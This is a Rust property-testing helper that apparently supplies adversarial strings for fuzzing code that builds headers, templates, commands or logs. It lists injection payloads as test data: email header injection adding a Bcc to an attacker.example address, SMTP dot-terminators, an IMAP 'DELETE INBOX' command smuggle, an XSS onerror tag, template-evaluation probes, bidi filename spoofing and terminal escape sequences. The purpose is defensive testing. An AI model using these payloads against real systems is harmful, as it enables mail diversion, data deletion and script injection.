//! Texts that hurt programs which put them into headers, templates, commands or
//! logs (security part F).

use proptest::prelude::*;

/// A sum that only a template that was run would work out.
pub const SUM: &str = "{{7919*7919}}${7919*7919}{% if 1 %}#{7919*7919}";
/// What it would come to.
pub const SUM_DONE: &str = "62710561";

/// Each of the characters and tricks that a test must not leave to chance.
pub fn chosen() -> Vec<String> {
    let mut all: Vec<String> = [
        "",
        " ",
        "\r",
        "\n",
        "\r\n",
        "\0",
        "a\u{85}b",
        "a\u{2028}b\u{2029}c",
        "\u{202e}fdp.exe\u{202c}",
        "a\u{2066}b\u{2069}\u{200e}\u{200f}\u{61c}",
        "\u{1f469}\u{200d}\u{1f4bb}",
        "\u{feff}\u{200b}\u{ad}",
        "\u{b}\u{c}\u{1b}[2J\u{7}\u{8}\u{7f}\u{9b}31m",
        "Bob\r\nBcc: eve@attacker.example\r\n\r\nbody",
        "Bob\nBcc: eve@attacker.example",
        "=?utf-8?Q?a=0D=0ABcc:_eve=40attacker.example?=",
        "=?utf-8?B?DQpCY2M6IGV2ZUBhdHRhY2tlci5leGFtcGxl?=",
        "\r\n.\r\n",
        "\n.\n",
        "\r.\r",
        ".",
        "\"\r\nA1 DELETE INBOX",
        "<img src=x onerror=alert(1)>",
        "\\\"<>(),:;@[]",
        "e\u{301}\u{301}\u{301}",
        "\u{fdd0}\u{10ffff}\u{e0001}\u{e007f}",
        SUM,
    ]
    .map(str::to_owned)
    .into();
    all.extend(["x", "ü", "a ", "\u{1f600}", "\n", "="].map(|piece| piece.repeat(10_000)));
    all
}

/// Any text at all, with a liking for what hurts.
pub fn text() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        4 => any::<String>(),
        4 => proptest::sample::select(chosen()),
        1 => "[ -~]{0,120}",
        1 => "[ü€\u{1f600} ]{0,80}",
    ];
    proptest::collection::vec(piece, 0..5).prop_map(|pieces| pieces.concat())
}
